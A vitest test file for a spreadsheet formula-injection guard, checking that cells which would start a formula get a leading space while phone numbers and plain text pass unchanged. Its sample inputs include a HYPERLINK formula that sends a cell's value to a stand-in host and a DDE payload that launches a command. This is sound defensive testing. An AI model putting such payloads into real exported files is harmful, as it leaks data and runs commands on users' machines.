import { expect, it } from 'vitest';
import { withoutFormula } from './formula-guard.js';

it.each([
  '=1+1',
  '=HYPERLINK("http://x.example?"&A1)',
  "+cmd|' /C calc'!A0",
  '-2+3+A1',
  '@SUM(A1)',
  '\uFF1D1+1',
  '- likes tea',
])('a cell that would begin a formula, %s, begins with a space, so that trimming gives the value', (cell) => {
  expect(withoutFormula(cell)).toBe(` ${cell}`);
});

it.each([
  '',
  'Ida',
  '+4930901820',
  '+49 (0)30 / 90-18 20',
  '+4930901820;ext=12',
  '+49 30 901820 ext. 12',
  '+4930901820 ::: +49301234 ::: 110',
  '-1',
  'a=b',
  "'quoted'",
])('%j is written as it is', (cell) => {
  expect(withoutFormula(cell)).toBe(cell);
});

// With two ways to read a part, the time would double with each.
it.each(['ext.', ';ext=', ';', '+', ' ', '.'])('a cell of any number of %j is decided at once', (part) => {
  const cell = `+${part.repeat(20_000)}!`;
  expect(withoutFormula(cell)).toBe(` ${cell}`);
});
